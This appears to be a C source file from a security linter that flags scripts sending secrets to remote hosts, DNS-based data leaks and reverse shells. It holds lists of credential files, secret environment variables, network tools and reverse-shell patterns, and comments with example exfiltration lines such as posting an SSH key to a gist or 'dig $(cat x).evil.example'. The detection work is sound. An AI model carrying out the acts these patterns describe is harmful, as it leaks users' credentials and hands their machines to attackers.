/* security_leak.c - secrets into the network, and shells out of it. */
#include "rules/security.h"

/* ---- what is secret ------------------------------------------------------------------------------ */

/* Files that hold nothing but secrets. */
static const char *const secret_files[] = { ".ssh/id_", "/id_rsa", "/id_ed25519",
	"/id_ecdsa", ".aws/credentials", ".netrc", ".git-credentials", ".npmrc",
	".pypirc", ".gnupg", ".docker/config.json", ".kube/config", "gh/hosts.yml",
	"/etc/shadow", "login.keychain", "library/keychains", "login data",
	"cookies.sqlite", "google-chrome/default", "chrome/user data", ".bash_history",
	".zsh_history", "wallet.dat", ".config/gcloud", ".azure/", ".claude/.credentials",
	".claude.json", ".codex/auth.json", ".config/solana/id.json", ".mozilla/firefox",
	"/etc/passwd", ".ssh/*", NULL };

/* Without what options put before a file: @x, f=@x, --post-file=x. */
static struct str bare_file(struct str w)
{
	size_t at = str_find_char(w, '@', 0), equals = str_find_char(w, '=', 0);

	if (at != STR_NPOS && (!at || w.p[at - 1] == '='))
		return str_from(w, at + 1);
	return equals != STR_NPOS && str_starts(w, STR("--")) ? str_from(w, equals + 1)
							      : w;
}

bool sec_is_secret_file(struct str w)
{
	w = bare_file(w);
	if (str_ends(w, STR(".pub")))
		return false;
	for (size_t i = 0; secret_files[i]; i++)
		if (sec_find(w, secret_files[i]) != STR_NPOS)
			return true;
	/* a directory of keys as a whole; a file of settings */
	while (str_ends(w, STR("/")))
		w.n--;
	return str_ends(w, STR(".ssh")) || str_ends(w, STR("/.aws")) ||
	       str_eq(w, STR(".env")) || str_ends(w, STR("/.env")) ||
	       str_starts(w, STR(".env.")) || sec_is(w, "id_rsa");
}

/* Variables that belong to one service only. */
static bool is_secret_variable(struct str w, const struct sec_host *h)
{
	static const struct {
		const char *name, *owner;
	} v[] = { { "AWS_SECRET_ACCESS_KEY", "amazonaws" },
		{ "AWS_SESSION_TOKEN", "amazonaws" },
		{ "ANTHROPIC_API_KEY", "anthropic" }, { "OPENAI_API_KEY", "openai" },
		{ "GITHUB_TOKEN", "github" }, { "GH_TOKEN", "github" },
		{ "NPM_TOKEN", "npm" }, { "STRIPE_SECRET_KEY", "stripe" },
		{ "DATABASE_URL", "!" } };

	for (size_t i = 0; i < COUNTOF(v); i++) {
		size_t at = sec_find(w, v[i].name);

		if (at != STR_NPOS && at && memchr("${", w.p[at - 1], 2))
			return sec_find(h->name, v[i].owner) == STR_NPOS;
	}
	return false;
}

static bool dumps_environment(const struct sec_line *l, size_t head)
{
	struct str name = sec_cmd_name(l, head);
	size_t arg = sec_cmd_arg(l, head, sec_cmd_end(l, head));

	if (sec_is(name, "printenv") || sec_is(name, "env") || sec_is(name, "set"))
		return arg == SIZE_MAX;
	return sec_is(name, "export") && arg != SIZE_MAX &&
	       str_eq(sec_tok_text(l, arg), STR("-p"));
}

/* "env" alone is a prefix to the reader of lines, so no head: look at the word. */
static bool is_env_alone(const struct sec_line *l, size_t i)
{
	struct str w = sec_tok_text(l, i);
	bool first = !i || l->tok[i - 1].kind != TOK_WORD;
	bool last = i + 1 == l->n || l->tok[i + 1].kind != TOK_WORD;

	return first && last && l->tok[i].kind == TOK_WORD &&
	       (str_eq(w, STR("env")) || str_eq(w, STR("printenv")));
}

/* ---- what is sent --------------------------------------------------------------------------------- */

struct leak {
	struct sec_cmdline *c;
	size_t head; /* of the command that sends */
	struct sec_host host;
	struct str what; /* is sent */
};

/* Among the tokens [from, to), a secret as data; keys and certificates that are used
 * to log in are not. */
static bool find_secret(struct leak *k, size_t from, size_t to)
{
	static const char *const own[] = { "-i", "--key", "--cert", "-E", "--cacert",
		"-K", "--config", "--netrc-file", "-b", "--cookie", "-c", "--cookie-jar",
		"--identity", "-e", "--kubeconfig", "-H", "--header", "-u", "--user",
		"-o", "--output", "-F", NULL };
	const struct sec_line *l = &k->c->line;

	for (size_t i = from; i < to; i++) {
		const struct sec_tok *t = &l->tok[i];
		struct str w = sec_tok_text(l, i), before = STR_NONE;
		bool form;

		if (t->kind != TOK_WORD)
			continue;
		if (i > from && l->tok[i - 1].kind == TOK_WORD)
			before = sec_tok_text(l, i - 1);
		form = str_eq(before, STR("-F")) && str_find_char(w, '@', 0) != STR_NPOS;
		k->what = bare_file(w);
		if (sec_one_of(before, own) && !form)
			continue;
		if (l->tok[i - (i > 0)].kind == TOK_OUT)
			continue;
		if (sec_is_secret_file(w))
			return true;
		if (is_env_alone(l, i) || (t->head && dumps_environment(l, i)))
			return true;
		if (is_secret_variable(w, &k->host))
			return true;
	}
	return false;
}

/* From the first command of its pipe. */
static size_t pipe_start(const struct sec_line *l, size_t head)
{
	uint16_t depth = l->tok[head].depth;
	size_t i = head;

	while (i > 0 && l->tok[i - 1].kind != TOK_END &&
		(l->tok[i - 1].depth > depth || l->tok[i - 1].depth == depth) &&
		!(l->tok[i - 1].kind == TOK_OPEN && l->tok[i - 1].depth < depth))
		i--;
	return i;
}

static bool sends_data(const struct sec_line *l, size_t head)
{
	static const char *const v[] = { "--data", "--data-binary", "--data-raw",
		"--data-urlencode", "--form", "--upload-file", "--json", "--post-data",
		"--post-file", "--body-data", "--body-file", "-Body", "-InFile", "-d",
		"-F", "-T", NULL };
	size_t end = sec_cmd_end(l, head), i = head;

	for (size_t k = 0; v[k]; k++)
		if (sec_cmd_option(l, head, NULL, v[k]) != SIZE_MAX)
			return true;
	while ((i = sec_cmd_arg(l, i, end)) != SIZE_MAX) {
		struct str w = sec_tok_text(l, i);

		/* -sd, -d@file; or in the address itself */
		if (w.n > 2 && w.p[0] == '-' && w.p[1] != '-' &&
			(w.p[1] == 'd' || w.p[1] == 'F' || w.p[1] == 'T' ||
				w.p[w.n - 1] == 'd' || w.p[w.n - 1] == 'T' ||
				w.p[w.n - 1] == 'F'))
			return true;
		if (str_find(w, STR("://"), 0) != STR_NPOS && i + 1 < end &&
			l->tok[i + 1].glued && l->tok[i + 1].kind == TOK_OPEN)
			return true;
		if (str_find(w, STR("://"), 0) != STR_NPOS &&
			str_find_char(w, '$', 0) != STR_NPOS)
			return true;
	}
	return false;
}

static struct sec_host host_among(const struct sec_line *l, size_t head)
{
	size_t end = sec_cmd_end(l, head), i = head;
	struct sec_host h = { .kind = HOST_NONE };

	while ((i = sec_cmd_arg(l, i, end)) != SIZE_MAX) {
		struct str w = sec_tok_text(l, i);
		size_t colon = str_find_char(w, ':', 0);

		if (str_starts(w, STR("-")) || str_starts(w, STR("@")))
			continue;
		if (sec_is_secret_file(w))
			continue;
		/* user@host:path of scp */
		if (colon != STR_NPOS && str_find(w, STR("://"), 0) == STR_NPOS)
			w = str_sub(w, 0, colon);
		if (str_find(w, STR("://"), 0) == STR_NPOS &&
			str_find_char(w, '@', 0) != STR_NPOS)
			w = str_from(w, str_find_char(w, '@', 0) + 1);
		h = sec_host_of(w);
		if (h.kind != HOST_NONE)
			return h;
		if (colon != STR_NPOS && w.n) {
			h = (struct sec_host){ .kind = HOST_OTHER, .name = w };
			return h;
		}
		if (str_starts(w, STR("$")))
			h = (struct sec_host){ .kind = HOST_OPEN, .name = w };
	}
	return h;
}

static void report_leak(struct leak *k, size_t from, size_t to)
{
	struct sec *s = k->c->s;
	const struct sec_line *l = &k->c->line;
	uint32_t off = l->tok[from].off, end = l->tok[to - 1].end;
	struct diag *d;

	if (k->host.kind == HOST_LOCAL || k->host.kind == HOST_NONE)
		return;
	if (k->host.kind == HOST_OPEN && k->c->place.zone != ZONE_SCRIPT)
		return;
	if (sec_mentioned(s, &k->c->place, off, end))
		return;
	if (sec_about_security(s) && k->c->place.zone != ZONE_SCRIPT &&
		(k->host.kind == HOST_EXAMPLE || k->host.kind == HOST_OPEN))
		return;
	d = sec_report(s, RULE_SEC_LEAK, off, end - off, "'%.*s' is sent to '%.*s'",
		STR_ARG(sec_show(s, k->what, 60)),
		STR_ARG(sec_show(s, k->host.name, 60)));
	sec_note(
		s, d, "no skill needs to send secrets or the whole environment anywhere");
}

/* gh gist create ~/.ssh/id_rsa */
static void gist(struct sec_cmdline *c, size_t head)
{
	const struct sec_line *l = &c->line;
	struct leak k = { .c = c,
		.head = head,
		.host = { .kind = HOST_OTHER, .name = STR("gist.github.com") } };
	size_t end = sec_cmd_end(l, head), arg = sec_cmd_arg(l, head, end);

	if (arg != SIZE_MAX && sec_is(sec_tok_text(l, arg), "gist") &&
		find_secret(&k, pipe_start(l, head), end))
		report_leak(&k, pipe_start(l, head), end);
}

static void sender(struct sec_cmdline *c, size_t head)
{
	static const char *const http[] = { "curl", "wget", "http", "https", "xh", "irm",
		"iwr", "Invoke-RestMethod", "Invoke-WebRequest", NULL };
	static const char *const raw[] = { "nc", "ncat", "netcat", "socat", "telnet",
		"ftp", "sftp", "scp", "rsync", "mail", "sendmail", "mutt", "rclone",
		NULL };
	const struct sec_line *l = &c->line;
	struct str name = sec_cmd_name(l, head);
	struct leak k = { .c = c, .head = head };
	size_t from = pipe_start(l, head), to = sec_cmd_end(l, head);

	if (sec_is(name, "gh"))
		gist(c, head);
	if (!sec_one_of(name, http) && !sec_one_of(name, raw))
		return;
	k.host = host_among(l, head);
	if (sec_one_of(name, http) && !sends_data(l, head))
		return;
	if (find_secret(&k, from, to))
		report_leak(&k, from, to);
}

/* dig $(cat x).evil.example */
static void resolver(struct sec_cmdline *c, size_t head)
{
	static const char *const v[] = { "dig", "nslookup", "host", NULL };
	static const char *const sources[] = { "cat", "env", "whoami", "hostname",
		"base64", "xxd", "od", "id", "printenv", NULL };
	const struct sec_line *l = &c->line;
	size_t end = sec_cmd_end(l, head);
	struct sec *s = c->s;
	struct diag *d;

	if (!sec_one_of(sec_cmd_name(l, head), v))
		return;
	for (size_t i = head + 1; i + 1 < end; i++) {
		uint32_t off = l->tok[head].off;

		if (l->tok[i].kind != TOK_CLOSE || !l->tok[i + 1].glued ||
			l->tok[i + 1].kind != TOK_WORD ||
			s->text.p[l->tok[i + 1].off] != '.' ||
			!sec_has_word(
				str_sub(s->text, off, l->tok[i].end - off), sources) ||
			sec_mentioned(s, &c->place, off, l->tok[i + 1].end))
			continue;
		if (sec_about_security(s) && c->place.zone != ZONE_SCRIPT)
			continue;
		d = sec_report(s, RULE_SEC_LEAK, off, l->tok[i + 1].end - off,
			"data is sent in the name that is looked up");
		sec_note(s, d, "whoever serves that domain reads every name asked for");
		return;
	}
}

/* A script that talks to a request bin: a test that was left in, or worse. */
void sec_leak_address(struct sec *s, const struct sec_hit *h)
{
	struct str url = str_sub(s->text, h->off, 200);
	struct sec_host host;
	struct sec_place p;
	struct diag *d;
	size_t n = 0;

	if (s->f->kind != FILE_SCRIPT || !str_starts(str_from(url, h->len), STR("://")))
		return;
	while (n < url.n && !char_is_space(url.p[n]) && !memchr("\"'`<>)", url.p[n], 7))
		n++;
	host = sec_host_of(str_sub(url, 0, n));
	if (!sec_host_collects(&host) || host.path.n < 8 || sec_about_security(s))
		return;
	p = sec_place_at(s, h->off);
	if (sec_mentioned(s, &p, h->off, h->off + n))
		return;
	d = sec_report(s, RULE_SEC_COLLECTOR, h->off, n, "a script sends to '%.*s'",
		STR_ARG(sec_show(s, host.name, 60)));
	sec_note(s, d, "whoever made that address reads all that is sent there");
}

/* ---- shells for others -------------------------------------------------------------------------- */

static bool has(struct str text, const char *what)
{
	return str_find(text, str_c(what), 0) != STR_NPOS;
}

static bool gives_shell(struct str text)
{
	if ((has(text, "/dev/tcp/") || has(text, "/dev/udp/")) &&
		(has(text, "0>&1") || has(text, "0<&") || has(text, "<&") ||
			has(text, "sh -i")))
		return true;
	if (has(text, "mkfifo") && has(text, "sh -i"))
		return true;
	return has(text, "pty.spawn") && has(text, ".connect(");
}

static bool has_exec_option(const struct sec_line *l, size_t head)
{
	static const char *const v[] = { "-e", "-c", "--exec", "--sh-exec", "-le", "-lve",
		"-lvpe", "-nve", "-ne", NULL };
	size_t end = sec_cmd_end(l, head), i = head;

	while ((i = sec_cmd_arg(l, i, end)) != SIZE_MAX) {
		size_t next = sec_cmd_arg(l, i, end);

		if (sec_one_of(sec_tok_text(l, i), v) && next != SIZE_MAX &&
			sec_find(sec_tok_text(l, next), "sh") != STR_NPOS)
			return true;
	}
	return false;
}

/* To somewhere; if `real`, to where documentation would not lead. */
static bool goes_out(struct str text, bool real)
{
	struct str rest = text, w;
	size_t at = sec_find(text, "/dev/tcp/");

	if (at != STR_NPOS) {
		struct sec_host h = sec_host_of(str_from(text, at + 9));

		return sec_host_remote(&h) && (!real || h.kind != HOST_EXAMPLE);
	}
	while (str_split(&rest, ' ', &w)) {
		struct sec_host h;

		while (w.n && memchr("\"'(,", w.p[0], 4))
			w = str_from(w, 1);
		h = sec_host_of(w);
		if (sec_host_remote(&h) && (!real || h.kind != HOST_EXAMPLE))
			return true;
	}
	return false;
}

static void reverse_shell(struct sec_cmdline *c)
{
	static const char *const cats[] = { "nc", "ncat", "netcat", NULL };
	const struct sec_line *l = &c->line;
	struct sec *s = c->s;
	struct str text = str_sub(s->text, c->range.off, c->range.len);
	bool hit = gives_shell(text);
	struct diag *d;

	for (size_t i = 0; !hit && i < l->n; i++)
		hit = l->tok[i].head && sec_one_of(sec_cmd_name(l, i), cats) &&
		      has_exec_option(l, i);
	if (!hit || sec_mentioned(s, &c->place, c->range.off, span_end(c->range)))
		return;
	if (c->place.zone != ZONE_SCRIPT && !goes_out(text, sec_about_security(s)))
		return;
	d = sec_report(s, RULE_SEC_REVERSE_SHELL, c->range.off, c->range.len,
		"a shell on this machine is handed to another one");
	sec_note(s, d, "whoever listens there can do all that the user can");
}

void sec_leak_line(struct sec_cmdline *c)
{
	for (size_t i = 0; i < c->line.n; i++) {
		const struct sec_tok *t = &c->line.tok[i];

		if (t->kind != TOK_WORD)
			continue;
		if (t->head || c->place.zone == ZONE_PROSE || c->place.zone == ZONE_SPAN)
			sender(c, i);
		if (t->head)
			resolver(c, i);
	}
	if (c->place.zone != ZONE_PROSE)
		reverse_shell(c);
}
